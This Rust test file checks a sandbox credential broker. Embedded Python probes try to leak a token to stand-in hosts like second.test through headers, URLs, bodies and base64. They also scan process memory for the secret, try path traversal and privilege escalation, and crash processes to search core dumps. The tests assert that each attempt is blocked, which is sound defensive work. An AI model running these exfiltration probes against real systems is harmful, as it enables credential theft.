//! Credentials that a run may use and never hold: what stands for one, tried from inside in every way, with the secret
//! looked for at the far end, in everything that comes out and in memory.

use std::collections::BTreeSet;
use std::time::{Duration, Instant};

use cofferdam_testkit::host::{eventually, pids};
use cofferdam_testkit::product::{start, wait};
use cofferdam_testkit::rows::{Row, attempts};
use cofferdam_testkit::secrets::Secrets;

use crate::world::{World, codes};
use crate::{Ended, row};

row!("CRED-04", the_secret_is_nowhere_but_in_the_broker);
row!("CRED-05", elsewhere_nothing_is_swapped);
row!("CRED-08", a_token_for_one_thing_does_no_other);
row!("CRED-09", nothing_is_taken_when_its_time_is_over);
row!("CRED-10", what_stands_for_it_is_worth_nothing_elsewhere);
row!("CRED-12", no_secret_is_in_what_a_crash_leaves);

/// The one flag that lets a run use it.
const CRED: [&str; 2] = ["--cred", "api=static.api"];

/// Requests with a token, whatever it is: what stands for the secret inside, the secret itself outside.
const SENDS: &str = r"
token = os.environ['API_TOKEN']
def sends(url, headers={}, body=None, method=None):
    asked = urllib.request.Request(url, body, headers, method=method)
    opener = urllib.request.build_opener(urllib.request.HTTPSHandler(context=unverified))
    try: return opener.open(asked).read().decode()
    except urllib.error.HTTPError as error: raise OSError(f'{error.code} {error.headers[denied]}')
denied = 'x-cofferdam-denied'
bearer = {'Authorization': 'Bearer ' + token}
";

/// What a program could say of the secret, if it had it.
const SAYS: &str = r"
import base64, glob, re
form = re.compile(rb'canary-[0-9a-f]{8}-[0-9a-f-]{27}')
def is_it(text): return form.search(text if isinstance(text, bytes) else text.encode()) is not None
print(token, base64.b64encode(token.encode()).decode(), token.encode().hex())
report('its variable', is_it(token))
said = sends('https://api.test/head', bearer)
print(said)
report('what the host says back', is_it(said))
said = sends('https://api.test/echo', bearer, b'echo ' + base64.b64encode(b'me:' + b'x' * 30))
report('a body that is said back', is_it(said))
def memory(pid):
    found = False
    with open(f'/proc/{pid}/maps') as maps, open(f'/proc/{pid}/mem', 'rb') as mem:
        for line in maps:
            where, rights = line.split()[:2]
            if 'rw' not in rights: continue
            begin, end = (int(number, 16) for number in where.split('-'))
            try:
                mem.seek(begin)
                found = found or is_it(mem.read(end - begin))
            except (OSError, ValueError, OverflowError): pass
    return found
attempt('its own memory', lambda: memory('self'))
sends('https://api.test/slow?ms=3000', bearer)
";

pub(crate) fn the_secret_is_nowhere_but_in_the_broker(row: &mut Row) -> Ended {
    let world = match World::around(row) {
        Ok(world) => world,
        Err(ended) => return ended,
    };
    let secret = world.keeps_a_secret(row);
    let code = crate::world::with_far_end(&format!("{SENDS}{SAYS}"));
    let command = row.command(&[&CRED[..], &["-c", &code]].concat());
    let began = Instant::now();
    let child = start(&mut world.net.command(&command));
    let slow = || world.net.seen().requests.iter().any(|request| request.path == "/slow?ms=3000");
    assert!(eventually(Duration::from_secs(20), slow), "a request of the program's arrives");
    let holders = holders(child.id() as i32, &Secrets::new(std::slice::from_ref(&secret)));
    let mut surrogates = BTreeSet::new();
    let ran = wait(child, began);
    row.heard(&ran);
    surrogates.extend(ran.stdout.split_whitespace().find(|word| word.starts_with("cofferdam0")));
    assert_eq!(surrogates.len(), 1, "{ran:?}");
    assert_eq!(holders.len(), 1, "the broker alone has it: {holders:?}");
    assert!(holders[0].contains(" broker"), "{holders:?}");
    let inside = attempts(&ran);
    let outside = world.outside_with(row, &secret, &format!("{SENDS}{SAYS}"));
    row.compare(&inside, &outside);
    Ended::Tested
}

/// The command lines of those processes that a run consists of whose memory has a secret. What is searched holds
/// the program, its sandbox, the proxy and the broker.
fn holders(of: i32, secrets: &Secrets) -> Vec<String> {
    let parent = |pid: i32| {
        let stat = std::fs::read_to_string(format!("/proc/{pid}/stat")).ok()?;
        stat.rsplit_once(") ")?.1.split(' ').nth(1)?.parse::<i32>().ok()
    };
    let is_of =
        |pid: i32| std::iter::successors(Some(pid), |pid| parent(*pid)).take(20).any(|above| above == of);
    let all: Vec<_> = pids().filter(|pid| is_of(*pid)).collect();
    assert!(all.len() >= 4, "the run, its sandbox, the proxy and the broker: {all:?}");
    let holds = |pid: &i32| cofferdam_testkit::secrets::in_memory_of(*pid, secrets);
    let line = |pid: i32| {
        let line = std::fs::read(format!("/proc/{pid}/cmdline")).unwrap_or_default();
        String::from_utf8_lossy(&line).replace('\0', " ")
    };
    all.into_iter().filter(holds).map(line).collect()
}

/// What stands for the secret, at hosts and in places that it isn't for.
const ELSEWHERE: &str = r"
import base64
basic = {'Authorization': 'Basic ' + base64.b64encode(b'u:' + token.encode()).decode()}
key = {'X-Api-Key': token}
attempt('another host', lambda: sends('https://second.test/', bearer))
attempt('another host by its key', lambda: sends('https://second.test/', key))
attempt('another host as basic', lambda: sends('https://second.test/', basic))
attempt('another host in the address', lambda: sends('https://second.test/?t=' + token))
attempt('another host in the path', lambda: sends('https://second.test/' + token))
attempt('another host in a body', lambda: sends('https://second.test/', {}, b'a=' + token.encode()))
attempt('another host in a body as base64', lambda: sends('https://second.test/', {}, base64.b64encode(b'.' + token.encode())))
attempt('in the clear', lambda: sends('http://other.test/', bearer))
attempt('in the address', lambda: sends('https://api.test/?t=' + token))
attempt('in the path', lambda: sends('https://api.test/' + token))
attempt('in another header', lambda: sends('https://api.test/', key))
attempt('as basic', lambda: sends('https://api.test/', basic))
attempt('in a body', lambda: sends('https://api.test/', bearer, b'a=' + token.encode()))
attempt('a foreign key', lambda: sends('https://api.test/', {'Authorization': 'Bearer ' + token[::-1]}))
attempt('a foreign key beside', lambda: sends('https://api.test/', bearer | {'X-Api-Key': 'mine'}))
attempt('a cookie beside', lambda: sends('https://api.test/', bearer | {'Cookie': 'a=mine'}))
attempt('a key in the address beside', lambda: sends('https://api.test/?api_key=mine', bearer))
";

pub(crate) fn elsewhere_nothing_is_swapped(row: &mut Row) -> Ended {
    let world = match World::around(row) {
        Ok(world) => world,
        Err(ended) => return ended,
    };
    let secret = world.keeps_a_secret(row);
    let options = [&CRED[..], &["--allow", "second.test", "--allow", "http://other.test"]].concat();
    let probe = format!("{SENDS}{ELSEWHERE}");
    let (inside, outcome) = world.inside(row, &options, &probe);
    let seen = world.net.seen();
    // A body is stopped on its way: its head has gone by then.
    assert!(seen.requests.iter().all(|request| request.method == "POST"), "{:?}", seen.asked());
    assert!(!seen.holds(secret.as_bytes()) && !seen.holds(b"cofferdam0"), "{:?}", seen.asked());
    let outside = world.outside_with(row, &secret, &probe);
    assert!(world.net.seen().holds(secret.as_bytes()), "what arrives would be seen");
    row.compare(&inside, &outside);
    for host in ["second.test", "other.test"] {
        assert_eq!(codes(&outcome, host), BTreeSet::from(["credential_wrong_host"]), "{outcome:#}");
    }
    assert_eq!(
        codes(&outcome, "api.test"),
        BTreeSet::from(["credential_wrong_place", "foreign_credential"]),
        "{outcome:#}"
    );
    Ended::Tested
}

/// A token that reads one repository, asked to do more.
const MORE: &str = r"
attempt('another repository', lambda: sends('https://api.test/repos/b/file', bearer))
attempt('writing', lambda: sends('https://api.test/repos/a/file', bearer, b'x', 'PUT'))
attempt('deleting', lambda: sends('https://api.test/repos/a/file', bearer, method='DELETE'))
attempt('administration', lambda: sends('https://api.test/admin', bearer))
attempt('a token of its own', lambda: sends('https://api.test/tokens', bearer, b'{}'))
attempt('a path that climbs', lambda: sends('https://api.test/repos/a/../b/file', bearer))
attempt('a path that is encoded', lambda: sends('https://api.test/repos/a/%2e%2e/b/file', bearer))
";

pub(crate) fn a_token_for_one_thing_does_no_other(row: &mut Row) -> Ended {
    let world = match World::around(row) {
        Ok(world) => world,
        Err(ended) => return ended,
    };
    let secret = world.keeps_a_secret(row);
    let policy = world.policy(
        row,
        "[[network.allow]]\nhost = \"api.test\"\nmethods = [\"GET\"]\npaths = [\"/repos/a/**\"]\ncredential = \"api\"\n",
        "",
    );
    let probe = format!("{SENDS}{MORE}");
    let (inside, outcome) = world.inside(row, &["--policy", &policy], &probe);
    assert!(world.net.seen().requests.is_empty());
    let outside = world.outside_with(row, &secret, &probe);
    row.compare(&inside, &outside);
    let codes = codes(&outcome, "api.test");
    assert_eq!(codes, BTreeSet::from(["method_not_allowed", "path_not_allowed"]), "{outcome:#}");
    let _ = world.net.seen();
    let one =
        format!("{SENDS}attempt('its one thing', lambda: sends('https://api.test/repos/a/file', bearer))");
    let (right, _) = world.inside(row, &["--policy", &policy], &one);
    assert!(right["its_one_thing"].breach && world.net.seen().holds(secret.as_bytes()), "{right:?}");
    Ended::Tested
}

pub(crate) fn nothing_is_taken_when_its_time_is_over(row: &mut Row) -> Ended {
    let world = match World::around(row) {
        Ok(world) => world,
        Err(ended) => return ended,
    };
    let secret = world.keeps_a_secret(row);
    let rule = "[[network.allow]]\nhost = \"api.test\"\ncredential = \"api\"\n";
    let policy = world.policy(row, rule, "ttl = \"1s\"\nmax_uses = 5\n");
    let late = format!(
        "{SENDS}import time\nsends('https://api.test/ok', bearer)\ntime.sleep(1.2)\n\
         attempt('after its time', lambda: sends('https://api.test/ok', bearer))\nprint('kept', token)"
    );
    let (inside, outcome) = world.inside(row, &["--policy", &policy], &late);
    let seen = world.net.seen();
    assert_eq!(seen.requests.len(), 1, "in its time it is taken: {outcome:#}");
    assert!(seen.holds(secret.as_bytes()));
    let outside = world.outside_with(row, &secret, &late);
    row.compare(&inside, &outside);
    assert_eq!(codes(&outcome, "api.test"), BTreeSet::from(["credential_expired"]), "{outcome:#}");
    assert_eq!(outcome["leases"][0]["state"], "dead", "{outcome:#}");
    // After the end of its run, in a run that has its own.
    let said = outcome["stdout"]["text"].as_str().unwrap();
    let kept = said.split_once("kept ").unwrap().1.lines().next().unwrap();
    let again = format!(
        "{SENDS}attempt('after its run', lambda: sends('https://api.test/ok', {{'Authorization': 'Bearer {kept}'}}))"
    );
    let _ = world.net.seen();
    let (inside, _) = world.inside(row, &CRED, &again);
    assert!(!inside["after_its_run"].breach && world.net.seen().requests.is_empty(), "{inside:?}");
    Ended::Tested
}

pub(crate) fn what_stands_for_it_is_worth_nothing_elsewhere(row: &mut Row) -> Ended {
    let world = match World::around(row) {
        Ok(world) => world,
        Err(ended) => return ended,
    };
    let secret = world.keeps_a_secret(row);
    let code = crate::world::with_far_end(&format!(
        "{SENDS}print('kept', token, flush=True)\nsends('https://api.test/slow?ms=3500', bearer)"
    ));
    let command = row.command(&[&CRED[..], &["-c", &code]].concat());
    let began = Instant::now();
    let mut child = start(&mut world.net.command(&command));
    let mut line = String::new();
    let mut stdout = std::io::BufReader::new(child.stdout.take().unwrap());
    std::io::BufRead::read_line(&mut stdout, &mut line).unwrap();
    let kept = line.trim().strip_prefix("kept ").unwrap().to_owned();
    // While its run lives: in another sandbox with the same grant, in one without, and by somebody on the host.
    let send = format!(
        "{SENDS}attempt('elsewhere', lambda: sends('https://api.test/ok', {{'Authorization': 'Bearer {kept}'}}))"
    );
    for options in [&CRED[..], &["--allow", "api.test"]] {
        let send =
            if options == CRED { send.clone() } else { format!("os.environ['API_TOKEN'] = ''\n{send}") };
        let (inside, outcome) = world.inside(row, options, &send);
        assert!(!inside["elsewhere"].breach, "{inside:?}");
        assert_eq!(codes(&outcome, "api.test").len(), 1, "{outcome:#}");
    }
    let outside = world.outside_with(row, &kept, &send);
    assert!(outside["elsewhere"].breach, "the host itself is reached: {outside:?}");
    let seen = world.net.seen();
    let from_a_shell = seen.requests.iter().find(|request| request.path == "/ok").unwrap();
    assert!(
        from_a_shell.headers.iter().any(|(_, value)| *value == format!("Bearer {kept}")),
        "nobody swaps it"
    );
    let swapped = |request: &&cofferdam_testkit::origins::Request| {
        request.headers.iter().any(|(_, value)| value.contains(&secret))
    };
    assert_eq!(seen.requests.iter().filter(swapped).count(), 1, "its own run's alone: {:?}", seen.asked());
    row.heard(&wait(child, began));
    row.proved();
    Ended::Tested
}

fn no_secret_is_in_what_a_crash_leaves(row: &mut Row) -> Ended {
    let world = match World::around(row) {
        Ok(world) => world,
        Err(ended) => return ended,
    };
    let secret = world.keeps_a_secret(row);
    let out = row.product().folder().join("out-crash");
    std::fs::create_dir(&out).unwrap();
    row.product().give(&out);
    let code = crate::world::with_far_end(&format!(
        "{SENDS}sends('https://api.test/ok', bearer)\n\
         try: sends('https://api.test/slow?ms=3000', bearer)\nexcept Exception as error: print(repr(error))"
    ));
    for role in ["broker", "egress"] {
        let _ = world.net.seen();
        let plain = row.command(&[&CRED[..], &["--timeout", "10s", "-c", &code]].concat());
        // Where a core may be written, it would lie beside what came out.
        let mut command = std::process::Command::new("sh");
        command
            .args(["-c", "ulimit -c unlimited; cd \"$0\"; exec \"$@\""])
            .arg(&out)
            .arg(plain.get_program());
        command.args(plain.get_args());
        for (name, value) in plain.get_envs() {
            if let Some(value) = value {
                command.env(name, value);
            }
        }
        command.env("RUST_BACKTRACE", "full").env("RUST_LOG", "trace");
        let began = Instant::now();
        let child = start(&mut world.net.command(&command));
        let slow = || world.net.seen().requests.iter().any(|request| request.path == "/slow?ms=3000");
        assert!(eventually(Duration::from_secs(20), slow), "{role}: a request of the program's arrives");
        let victim = crashes(child.id() as i32, role);
        let ran = wait(child, began);
        assert!(victim.is_some(), "{role}: it was there to be crashed");
        row.heard(&ran);
    }
    let log = crate::world::log(row);
    assert!(log.contains("lease.minted"), "{log}");
    let secrets = Secrets::new(&[secret]);
    for file in std::fs::read_dir(&out).unwrap().flatten() {
        let found = secrets.found_in(&std::fs::read(file.path()).unwrap());
        assert_eq!(found, None, "{:?}", file.path());
    }
    row.proved();
    Ended::Tested
}

/// Has a process of a run end as one does that found itself broken, which leaves a core where one may be written.
fn crashes(of: i32, role: &str) -> Option<i32> {
    let children = std::fs::read_to_string(format!("/proc/{of}/task/{of}/children")).ok()?;
    let threads = std::fs::read_dir(format!("/proc/{of}/task")).ok()?.flatten();
    let of_threads =
        threads.filter_map(|thread| std::fs::read_to_string(thread.path().join("children")).ok());
    let all = of_threads.chain([children]).collect::<Vec<_>>().join(" ");
    let is_it = |pid: &i32| {
        let line = std::fs::read(format!("/proc/{pid}/cmdline")).unwrap_or_default();
        line.split(|byte| *byte == 0).nth(1) == Some(role.as_bytes())
    };
    let pid = all.split_whitespace().filter_map(|pid| pid.parse().ok()).find(is_it)?;
    let mut kill = std::process::Command::new("kill");
    kill.args(["-ABRT", &pid.to_string()]);
    (cofferdam_testkit::product::finish(kill).code == 0).then_some(pid)
}
